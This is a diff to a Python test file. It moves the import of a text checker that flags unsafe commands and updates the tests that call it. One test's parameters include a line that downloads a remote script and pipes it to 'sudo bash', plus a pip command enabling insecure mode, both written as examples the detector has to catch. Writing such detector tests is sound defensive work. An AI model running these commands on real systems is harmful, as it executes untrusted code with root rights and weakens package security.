@@ -11,7 +11,8 @@ import pytest
 
 from pipeline import validate
 from pipeline.records.entry import KnowledgeEntry
-from pipeline.validate import patterns, wording
+from pipeline.text import unsafe
+from pipeline.validate import patterns
 from tests import entry_factory as make
 
 Raw = dict[str, Any]
@@ -274,9 +275,9 @@ def test_a_chinese_quote_is_its_own_chinese_side() -> None:
 
 @pytest.mark.parametrize("words", [EVIL, "wget -qO- https://x.invalid | sudo bash", "pip config set --insecure x"])
 def test_dangerous_words_are_known(words: str) -> None:
-    assert wording.unsafe(words) is not None
+    assert unsafe(words) is not None
 
 
 def test_ordinary_words_are_not_dangerous() -> None:
     for words in ("pip install -U triton", "export TRITON_STAGES=2", "rm build/cache.bin", "verify=True"):
-        assert wording.unsafe(words) is None
+        assert unsafe(words) is None
